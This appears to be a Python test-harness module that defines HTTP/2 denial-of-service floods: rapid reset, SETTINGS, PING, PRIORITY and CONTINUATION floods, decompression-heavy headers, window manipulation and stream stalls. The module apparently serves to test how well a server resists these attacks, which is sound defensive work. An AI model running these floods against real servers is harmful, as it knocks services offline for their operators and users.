"""Floods of an HTTP/2 client that keep a server busy. Each flood is sent on a new connection."""

import struct

from harness.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    frame,
    reset,
    settings,
    window_update,
)

# The size of each flood, if the server does not close the connection earlier.
COUNT = 5000
STREAMS = range(1, 200, 2)
LARGEST = (1 << 31) - 1


def rapid_reset(client, path):
    """Requests that are cancelled immediately."""
    for first in range(1, COUNT, 100):
        client.send(*(client.request(n, path) + reset(n) for n in range(first, first + 100, 2)))


def settings_flood(client, path):
    for _ in range(COUNT // 100):
        client.send(settings((3, 100)) * 100)


def ping_flood(client, path):
    for _ in range(COUNT // 100):
        client.send(frame(PING, payload=b"x" * 8) * 100)


def priority_flood(client, path):
    for _ in range(COUNT // 100):
        client.send(*(frame(PRIORITY, 0, n, struct.pack(">IB", 0, 1)) for n in STREAMS))


def empty_data(client, path):
    client.send(client.request(1, "/api/pages", method="POST", ends=False))
    for _ in range(COUNT // 100):
        client.send(frame(DATA, 0, 1) * 100)


def endless_head(client, path):
    client.send(frame(HEADERS, END_STREAM, 1, client.head(path)))
    for _ in range(COUNT // 100):
        client.send(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y") * 100)


def large_heads(client, path):
    """Heads that are small when encoded and large when decoded."""
    field = ("x", "y" * 3000)
    client.send(*(frame(HEADERS, END_HEADERS | END_STREAM, n, client.head(path, *[field] * 50)) for n in STREAMS))


def window_changes(client, path):
    """Responses that wait for windows, which grow and shrink."""
    client.send(settings((4, 0)), *(client.request(n, path) for n in STREAMS))
    for size in range(COUNT // 100):
        client.send(settings((4, size % 2)))


def tiny_windows(client, path):
    """Responses with a window of one byte at a time."""
    client.send(settings((4, 0)), *(client.request(n, path) for n in STREAMS))
    for _ in range(COUNT // 100):
        client.send(*(window_update(n, 1) for n in STREAMS))


# The following floods leave streams that the server has to end.
def half_closed(client, path):
    """Requests whose bodies are never sent."""
    client.send(*(client.request(n, "/api/pages", method="POST", ends=False) for n in STREAMS))


def window_stall(client, path):
    """Responses without a window."""
    client.send(settings((4, 0)), *(client.request(n, path) for n in STREAMS))


def reads_nothing(client, path):
    """Responses with the maximum window that are not read."""
    client.send(settings((4, LARGEST)), window_update(0, LARGEST - 65535), *(client.request(n, path) for n in STREAMS))


FLOODS = [
    rapid_reset,
    settings_flood,
    ping_flood,
    priority_flood,
    empty_data,
    endless_head,
    large_heads,
    window_changes,
    tiny_windows,
]
STALLS = [half_closed, window_stall, reads_nothing]
